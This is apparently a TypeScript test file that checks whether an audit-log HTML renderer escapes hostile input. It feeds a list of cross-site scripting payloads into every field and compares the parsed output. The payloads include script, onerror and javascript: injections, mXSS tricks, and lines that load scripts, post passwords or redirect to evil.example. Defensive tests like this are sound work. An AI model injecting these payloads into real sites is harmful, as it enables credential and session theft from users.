import { type AuditEntry, auditEntrySchema } from '@order-automation/contracts';
import fc from 'fast-check';
import { type DefaultTreeAdapterMap, parseFragment } from 'parse5';
import { renderEntry } from './entry';
import { renderPage } from './render';

const entry = (overrides: Partial<AuditEntry> = {}): AuditEntry =>
  auditEntrySchema.parse({
    id: 7,
    timestamp: '2026-02-01T10:00:00.000Z',
    status: 'success',
    event_type: 'rule_evaluation',
    source: 'webhook',
    summary: 'Rule "Finish downloads" matched.',
    order_id: 1042,
    process_id: 'proc_1',
    rule_id: 3,
    duration_ms: 4,
    is_test: false,
    is_debug: false,
    details: {},
    parent_id: null,
    ...overrides,
  });

type Node = DefaultTreeAdapterMap['node'];

/** Every element with its attributes' names, as a real parser sees them. */
function shape(node: Node): string[] {
  const own = 'tagName' in node ? [`${node.tagName}[${node.attrs.map(({ name }) => name).join(',')}]`] : [];
  return 'childNodes' in node ? [...own, ...node.childNodes.flatMap(shape)] : own;
}

test('an entry says what happened, when, to what, and each condition with what was wanted and found', () => {
  const { text: html } = renderEntry(
    entry({
      details: {
        conditions: [
          {
            id: 'order_total',
            label: 'Order total',
            result: 'fail',
            expected: 'more than 50.00',
            actual: '49.00',
            reason: '',
          },
        ],
        event: { amount: '49.00', authenticated: true },
      },
    }),
  );
  expect(html).toContain('Rule &quot;Finish downloads&quot; matched.');
  expect(html).toContain('<time datetime="2026-02-01T10:00:00.000Z">2026-02-01 10:00:00 UTC</time>');
  expect(html).toContain('order 1042');
  expect(html).toMatch(/<td data-label="Expected">more than 50.00<\/td><td data-label="Actual">49.00<\/td>/);
  expect(html).toContain('<dt>Authenticated</dt><dd>yes</dd>');
  expect(html).not.toContain('Reason');
});

/** Markup that does something wherever a browser takes it for markup. */
const markup = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">click</a>',
  '<body onload=alert(1)>',
  '<form action=//evil.example><input name=password>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '<object data=data:text/html,x></object>',
  '<embed src=x>',
  '<template><b>x</b></template>',
  '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<details open ontoggle=alert(1)>',
  '<!--',
  '--><b>x</b>',
  '<![CDATA[<b>x</b>]]>',
  '<?php echo 1 ?>',
  '</title></textarea></select><b>x</b>',
  '&lt;b&gt;x&lt;/b&gt;',
  '&#60;b&#62;x',
  '\u0000<b>x</b>',
  '<\u0000b>x',
  '\uff1cscript\uff1ealert(1)',
];
/** Ways out of the place where a text stands. */
const waysOut = [
  '',
  '">',
  "' onmouseover='alert(1)' x='",
  '</dd></dl></td></tr></table></h3></time></article></li></ol></section>',
];
const payloads = markup.flatMap((text) => waysOut.map((out) => `${out}${text}`));

/** An entry, and the process around it, with a text in one of its fields. Enumerations too: what is stored may be older than they are. */
const places: Readonly<Record<string, (text: string) => Partial<Record<keyof AuditEntry, unknown>>>> = {
  summary: (text) => ({ summary: text }),
  'process id': (text) => ({ process_id: text }),
  status: (text) => ({ status: text }),
  'event type': (text) => ({ event_type: text }),
  source: (text) => ({ source: text }),
  timestamp: (text) => ({ timestamp: text }),
  'name of a detail': (text) => ({ details: { [text]: 'value' } }),
  'name below a detail': (text) => ({ details: { deep: { a: { [text]: { [text]: 1 } } } } }),
  detail: (text) => ({ details: { note: text } }),
  'list of details': (text) => ({ details: { list: [text, text], objects: [{ a: text }, [text]] } }),
  'deep detail': (text) => ({ details: { a: { b: { c: { d: { e: { f: { g: text } } } } } } } }),
  condition: (text) => ({
    details: { conditions: [{ id: text, label: text, result: text, expected: text, actual: text, reason: text }] },
  }),
  action: (text) => ({ details: { actions: [{ label: text, status: text, message: { why: [text] } }] } }),
  change: (text) => ({ details: { changes: [{ field: text, from: text, to: [text] }] } }),
};

test.each(Object.keys(places))('120 pieces of markup in a %s add no element and no attribute', (place) => {
  expect(new Set(payloads).size).toBe(120);
  const shapeWith = (text: string) => {
    const fields = places[place]?.(text);
    const logs = [{ ...entry(), ...fields } as AuditEntry];
    const id = logs[0]?.process_id ?? '';
    return [...logs.map(renderEntry), renderPage(id, logs, 'process'), renderPage(id, logs, 'entry')].map(({ text }) =>
      shape(parseFragment(text)),
    );
  };
  const wanted = shapeWith('x plain');
  for (const payload of payloads) expect([payload, shapeWith(`x ${payload}`)]).toEqual([payload, wanted]);
});

test('any text adds no element and no attribute', () => {
  const plain = (text: string) =>
    entry({
      summary: text,
      details: { conditions: [{ label: text, result: 'pass', expected: text }], note: text, deep: { a: { b: text } } },
    });
  const wanted = shape(parseFragment(renderEntry(plain('plain')).text));
  fc.assert(
    fc.property(fc.string({ minLength: 1, unit: 'binary' }), (text) => {
      expect(shape(parseFragment(renderEntry(plain(`x${text}`)).text))).toEqual(wanted);
    }),
    { numRuns: 500 },
  );
});
